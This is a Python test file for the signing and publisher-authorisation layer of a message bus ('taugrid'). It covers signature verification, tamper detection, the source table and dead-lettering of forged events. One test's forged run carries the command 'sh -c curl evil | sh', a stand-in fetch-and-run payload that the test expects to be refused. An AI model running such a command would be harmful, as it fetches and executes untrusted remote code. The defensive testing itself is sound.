"""The signed form of a person's request and the ce-source table, without services."""

from __future__ import annotations

import asyncio
import contextlib
import uuid

import msgspec
import pytest

from taugrid.bus import Bus, identity, tracing
from taugrid.bus.bootstrap import ensure_consumer
from taugrid.bus.consumer import ConsumerLoop
from taugrid.bus.envelope import (
    SIGNATURE_HEADER,
    SIGNER_HEADER,
    Event,
    SignatureInvalid,
    canonical_form,
    from_message,
    headers_for,
    run_traceparent,
    sign_headers,
    verify_signature,
)
from taugrid.bus.topology import ConsumerSpec
from taugrid.core.contracts import CancelRequested, PolicyApproved, ResolvedRun
from taugrid.core.publishing import (
    PERSON_REQUESTS,
    SERVICE_PUBLISH,
    publishers,
    source_problem,
    subject_matches,
    verdict,
)
from tests.owners import acting_as

SUBJECT = "run.team-a.hello-1234.cancel.requested"


def signed(seed: bytes, body: bytes = b'{"reason":"x"}') -> tuple[dict[str, str], bytes]:
    headers = headers_for(event_id="hello-1234.1.cancel.requested.abc", event_type="cancel.requested",
                          source="/svc/client", subject="hello-1234", workspace="team-a", attempt=1,
                          traceparent="")
    sign_headers(seed, nats_subject=SUBJECT, headers=headers, body=body)
    return headers, body


def test_canonical_form_is_seven_lines_ending_in_the_body_digest() -> None:
    form = canonical_form(nats_subject=SUBJECT, event_id="i", event_type="t", subject="s", time="2026-01-01T00:00:00Z",
                          body=b"abc")
    assert form == (b"tau-sig-v1\nrun.team-a.hello-1234.cancel.requested\ni\nt\ns\n2026-01-01T00:00:00Z\n"
                    b"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")


def test_a_signed_request_verifies_and_names_its_signer() -> None:
    seed = identity.new_user_seed()
    headers, body = signed(seed)
    ev = from_message(SUBJECT, headers, body)
    assert verify_signature(ev) == identity.public_key(seed) == headers[SIGNER_HEADER]
    assert len(headers[SIGNATURE_HEADER]) == 86  # 64 bytes, base64url without padding


@pytest.mark.parametrize("tamper", ["body", "subject", "time", "id", "signer", "signature", "unsigned"])
def test_any_change_breaks_the_signature(tamper: str) -> None:
    seed, other = identity.new_user_seed(), identity.new_user_seed()
    headers, body = signed(seed)
    subject = SUBJECT
    if tamper == "body":
        body = b'{"reason":"y"}'
    elif tamper == "subject":
        subject = "run.team-b.hello-1234.cancel.requested"
    elif tamper == "time":
        headers["ce-time"] = "2020-01-01T00:00:00.000Z"
    elif tamper == "id":
        headers["ce-id"] += "x"
    elif tamper == "signer":
        headers[SIGNER_HEADER] = identity.public_key(other)
    elif tamper == "signature":
        headers[SIGNATURE_HEADER] = signed(other)[0][SIGNATURE_HEADER]
    else:
        del headers[SIGNER_HEADER], headers[SIGNATURE_HEADER]
    with pytest.raises(SignatureInvalid) as err:
        verify_signature(from_message(subject, headers, body))
    expected = "unsigned request" if tamper == "unsigned" else "signature does not match the request"
    assert expected in str(err.value)


def test_a_signer_that_is_not_a_user_key_is_named() -> None:
    headers, body = signed(identity.new_user_seed())
    headers[SIGNER_HEADER] = "NOTAKEY"
    with pytest.raises(SignatureInvalid, match="'NOTAKEY' is not a NATS user public key"):
        verify_signature(from_message(SUBJECT, headers, body))


def test_seed_files_in_either_format_are_found(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    seed = identity.new_user_seed()
    (tmp_path / "creds").mkdir()
    (tmp_path / "creds" / "ada.creds").write_bytes(b"# comment\n# public key: U...\n" + seed + b"\n")
    monkeypatch.setenv("TAU_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("TAU_NKEY_SEED", raising=False)
    monkeypatch.delenv("TAU_NKEY_FILE", raising=False)
    assert identity.load_user_seed() == seed


def test_the_table_names_who_may_publish_each_stage() -> None:
    assert subject_matches("run.*.*.admission.>", "run.w.r.admission.queued")
    assert not subject_matches("run.*.*.admission.>", "run.w.r.admission")
    assert publishers("run.w.r.policy.approved") == ["policy"]
    assert publishers("run.w.r.exec.cancelled") == ["admission-watcher", "renderer"]
    assert publishers("backend.local.apply") == ["dispatcher", "renderer"]  # the dispatcher sends runs' copies
    assert source_problem("run.w.r.policy.approved", "/svc/policy") is None
    assert source_problem("run.w.r.submit.requested", "/svc/anyone") is None  # signed instead
    assert source_problem("run.w.r.policy.approved", "/svc/client") == (
        "ce-source '/svc/client' may not publish run.w.r.policy.approved; only /svc/policy may")


def test_the_remembered_verdict_is_the_one_the_table_gives_for_every_subject() -> None:
    """``verdict`` remembers a subject's publishers by its shape (run ids and names left out); every subject of
    every pattern, and subjects no pattern names, get exactly what matching the table afresh gives."""
    patterns = [*PERSON_REQUESTS, *(p for ps in SERVICE_PUBLISH.values() for p in ps)]
    subjects = ["run", "run.w", "run.w.r", "run.w.r.admission", "k8s", "node.n1", "log", "backend", "other.a.b",
                "run.w.r.exec.succeeded.extra", "node.n1.condition", "k8s.local.job.default.x.added"]
    for pattern in patterns:
        for fill in ("a", "policy", "run"):
            subjects.append(pattern.replace("*", fill).replace(">", f"{fill}.deeper"))
            subjects.append(pattern.replace("*", fill).replace(">", fill))
    for subject in subjects:
        for _ in range(2):  # the first answer is computed, the second remembered
            assert verdict(subject) == (any(subject_matches(p, subject) for p in PERSON_REQUESTS),
                                        tuple(publishers(subject))), subject
    assert verdict("run.w1.r1.policy.approved") == verdict("run.w2.r2.policy.approved") == (False, ("policy",))
    assert verdict("run.w.r.submit.requested") == (True, ())


async def test_an_event_from_the_wrong_service_is_dead_lettered_and_never_handled(bus: Bus) -> None:
    ws = f"w{uuid.uuid4().hex[:8]}"
    durable = f"forged-{ws}"
    r1, r2 = f"r1-{ws}", f"r2-{ws}"
    await ensure_consumer(bus, ConsumerSpec(durable, "RUNS", [f"run.{ws}.*.policy.approved"]))
    handled: list[Event] = []

    async def handler(ev: Event) -> None:
        handled.append(ev)

    loop = ConsumerLoop(bus, stream="RUNS", durable=durable, handler=handler, fetch_timeout=0.2)
    task = asyncio.create_task(loop.run())
    run = ResolvedRun(run_id=r1, submission_id="s", workspace=ws, namespace="default", name=r1,
                      command=["sh", "-c", "curl evil | sh"], priority_class="critical")
    try:
        with acting_as(bus, "client"):
            await bus.emit(workspace=ws, run_id=r1, attempt=1, event_type="policy.approved",
                           payload=PolicyApproved(run=run))
        with acting_as(bus, "policy"):
            await bus.emit(workspace=ws, run_id=r2, attempt=1, event_type="policy.approved",
                           payload=PolicyApproved(run=msgspec.structs.replace(run, run_id=r2)))
        for _ in range(100):
            if handled:
                break
            await asyncio.sleep(0.05)
        await asyncio.sleep(0.3)
        assert [e.subject for e in handled] == [r2]  # only the one from /svc/policy
        dlq = await bus.js.get_last_msg("DLQ", f"dlq.RUNS.{durable}")
        assert dlq.headers is not None
        assert dlq.headers["x-dlq-error"] == (
            f"refused: ce-source '/svc/client' may not publish run.{ws}.{r1}.policy.approved; only /svc/policy may")
        # stored compact: the run is the one its subject names (issue 27)
        assert "ce-subject" not in dlq.headers
        assert from_message(dlq.headers["x-dlq-subject"], dlq.headers, dlq.data).subject == r1
    finally:
        loop.stopping.set()
        await task


async def request_and_approval(bus: Bus, ws: str, run: str) -> None:
    """A person's signed ``cancel.requested`` on ``run``, then the policy's ``policy.approved`` of it."""
    await bus.emit(workspace=ws, run_id=run, attempt=1, event_type="cancel.requested",
                   payload=CancelRequested(), dedup="n1")
    with acting_as(bus, "policy"):
        await bus.emit(workspace=ws, run_id=run, attempt=1, event_type="policy.approved",
                       payload=PolicyApproved(run=ResolvedRun(run_id=run, submission_id="s", workspace=ws,
                                                              namespace="default", name=run)))


async def test_a_bus_with_a_seed_signs_requests_and_only_requests(bus: Bus) -> None:
    ws = f"w{uuid.uuid4().hex[:8]}"
    r1 = f"r-{ws}"  # run ids are unique across the session: message ids are deduplicated by the stream
    bus.seed = identity.new_user_seed()
    try:
        await request_and_approval(bus, ws, r1)
    finally:
        bus.seed = None
    req = await bus.js.get_last_msg("RUNS", f"run.{ws}.{r1}.cancel.requested")
    ev = from_message(req.subject, req.headers, req.data)
    assert verify_signature(ev) == ev.signer and ev.signer.startswith("U")
    approved = await bus.js.get_last_msg("RUNS", f"run.{ws}.{r1}.policy.approved")
    assert approved.headers is not None and SIGNER_HEADER not in approved.headers


async def test_a_run_event_in_its_runs_derived_trace_is_stored_without_it_a_request_too(bus: Bus) -> None:
    """Issue 27: the run's derived traceparent is left out of a signed request and a service's event alike (no
    signature covers it) and read back; a trace of the caller's own is stored as it is."""
    ws = f"w{uuid.uuid4().hex[:8]}"
    r1, r2 = f"r-{ws}", f"s-{ws}"
    other = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
    bus.seed = identity.new_user_seed()
    try:
        for run, parent in ((r1, ""), (r2, other)):  # r1 outside any trace: emit's span starts the derived one
            with tracing.span("caller", parent=parent) if parent else contextlib.nullcontext():
                await request_and_approval(bus, ws, run)
    finally:
        bus.seed = None
    for run, trace in ((r1, run_traceparent(r1)), (r2, other)):
        for kind in ("cancel.requested", "policy.approved"):
            msg = await bus.js.get_last_msg("RUNS", f"run.{ws}.{run}.{kind}")
            assert (msg.headers or {}).get("traceparent") == (None if run == r1 else other)
            ev = from_message(msg.subject, msg.headers, msg.data)
            assert ev.traceparent == trace
    req = await bus.js.get_last_msg("RUNS", f"run.{ws}.{r1}.cancel.requested")
    ev = from_message(req.subject, req.headers, req.data)
    assert verify_signature(ev) == ev.signer


def test_every_run_event_has_exactly_the_publishers_the_catalogue_names() -> None:
    from taugrid.core.events import RUN_EVENTS, run_subject

    got = {t: publishers(run_subject("w", "r", t)) for t in RUN_EVENTS}
    assert got == {
        "submit.requested": [],  # people: signed, see PERSON_REQUESTS
        "cancel.requested": ["portal"],  # people sign their own; the portal on a person's behalf (tau-delegation)
        "submit.accepted": ["submitter"], "submit.rejected": ["submitter"],
        "policy.approved": ["policy"], "policy.rejected": ["policy"],
        "render.applied": ["renderer"], "render.failed": ["renderer"],
        "cancel.accepted": ["renderer"], "cancel.refused": ["renderer"],
        "admission.queued": ["admission-watcher"], "admission.admitted": ["admission-watcher"],
        "admission.preempted": ["admission-watcher"], "exec.preparing": ["admission-watcher"],
        "exec.progress": ["admission-watcher"], "exec.resized": ["admission-watcher"],
        "exec.running": ["admission-watcher"], "exec.succeeded": ["admission-watcher"],
        "exec.failed": ["admission-watcher"], "exec.cancelled": ["admission-watcher", "renderer"],
        "recovery.retrying": ["recovery"], "recovery.gave_up": ["recovery"],
        "health.degraded": ["health-monitor"], "evidence.sealed": ["evidence"],
        "dispatch.nominated": ["dispatcher"], "dispatch.chosen": ["dispatcher"], "dispatch.withdrawn": ["dispatcher"],
        "dispatch.granted": ["dispatcher"],
    }


def test_an_event_waiting_for_its_authors_keys_backs_off_as_a_handler_retry_does() -> None:
    """An event whose author cannot be checked yet (no service keys recorded) is nak'ed with the same doubling
    delay as a handler's retry, so its deliveries span about a minute rather than 8 × 2 s; a paced wait is exact."""
    from taugrid.bus.consumer import retry_delay
    from taugrid.core.errors import NotYet, TemporaryError

    waiting = TemporaryError("no service keys recorded yet (the bootstrap publishes them)", delay=2.0)
    assert [retry_delay(waiting, n) for n in range(1, 9)] == [2.0, 4.0, 8.0, 16.0, 30.0, 30.0, 30.0, 30.0]
    assert retry_delay(NotYet("paced", delay=7.5), 5) == 7.5
